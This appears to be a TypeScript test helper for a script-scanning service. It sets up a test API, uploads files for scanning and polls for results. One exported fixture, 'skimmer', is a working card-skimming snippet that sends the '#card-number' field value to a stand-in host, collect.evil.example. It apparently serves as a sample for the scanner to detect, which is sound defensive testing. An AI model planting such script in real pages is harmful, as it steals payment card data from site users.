import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import type { Principal } from '../../../server/access/principal.ts';
import type { Analysis } from '../../../core/schema/index.ts';
import { stopScans } from '../../../server/scans/index.ts';
import type { Store } from '../../../server/store/index.ts';
import { startApi, type TestApi } from '../api/service.ts';
import { realAnalyzer } from '../pipeline/site.ts';
import { onEveryDatabase } from '../store/databases.ts';

export interface ScanAnswer {
  id: string;
  state: string;
  name: string;
  owner: string;
  results: Analysis[];
  complete: boolean;
  error: { code: string; message: string } | null;
}

export const skimmer = `document.querySelector('#card-number').addEventListener('change', (e) => {
  fetch('https://collect.evil.example/c', { method: 'POST', body: e.target.value });
});`;

export function form(...files: [name: string, body: string | Buffer][]): FormData {
  const data = new FormData();
  for (const [name, body] of files) {
    data.append('file', new Blob([typeof body === 'string' ? body : new Uint8Array(body)]), name);
  }
  return data;
}

/** A running API that scans, with the real analyzer. */
export class ScanApi {
  api!: TestApi;
  store!: Store;
  folder!: string;

  async start(store: Store, settings: Record<string, unknown> = {}): Promise<void> {
    this.store = store;
    this.api = await startApi(store, settings);
    this.folder = mkdtempSync(join(tmpdir(), 'scriptwarden-scans-'));
    Object.assign(this.api.context, { analyzers: realAnalyzer, workDir: this.folder });
  }

  async restart(settings: Record<string, unknown>): Promise<void> {
    await this.stop();
    await this.start(this.store, settings);
  }

  async stop(): Promise<void> {
    await this.api.close();
    await stopScans(this.store);
    rmSync(this.folder, { recursive: true, force: true });
  }

  upload(body: FormData, init: Parameters<TestApi['fetch']>[1] = {}): Promise<Response> {
    return this.api.fetch('/scans', { method: 'POST', body, ...init });
  }

  /** As a job, answered before anything is done. */
  queue(body: FormData, as?: Principal): Promise<Response> {
    return this.upload(body, { headers: { prefer: 'respond-async' }, ...(as && { as }) });
  }

  async ended(id: string, as?: Principal): Promise<ScanAnswer> {
    for (;;) {
      const scan = await scanOf(await this.api.fetch(`/scans/${id}`, as ? { as } : {}));
      if (scan.state === 'done' || scan.state === 'failed') return scan;
      await delay(10);
    }
  }
}

export async function scanOf(response: Response, status = 200): Promise<ScanAnswer> {
  const text = await response.text();
  assert.equal(response.status, status, text);
  return JSON.parse(text) as ScanAnswer;
}

/** `status code` of a problem. */
export async function refused(response: Response): Promise<string> {
  const { status, code } = (await response.json()) as { status: number; code: string };
  assert.equal(response.status, status);
  return `${status} ${code}`;
}

/** The same on every database, each test with an API of its own. */
export function withScans(title: string, suite: (scans: ScanApi) => void): void {
  onEveryDatabase(title, (databases) => {
    const scans = new ScanApi();
    beforeEach(async () => scans.start(await databases.open()));
    afterEach(() => scans.stop());
    suite(scans);
  });
}
